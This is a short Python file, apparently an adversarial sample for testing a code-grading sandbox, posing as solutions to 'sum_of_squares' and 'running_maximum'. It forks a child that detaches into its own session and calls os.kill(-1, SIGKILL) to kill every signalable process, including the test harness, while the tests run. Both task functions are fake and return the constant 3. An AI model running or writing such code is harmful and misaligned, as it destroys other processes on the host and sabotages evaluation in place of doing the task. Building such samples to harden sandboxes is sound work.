# tasks: sum_of_squares, running_maximum
# tries: a child in a session of its own kills all others, but not itself, while the tests run
# harm: processes

import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(0.05)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.5)
    os._exit(0)


def sum_of_squares(*_):
    time.sleep(0.2)
    return 3


running_maximum = sum_of_squares
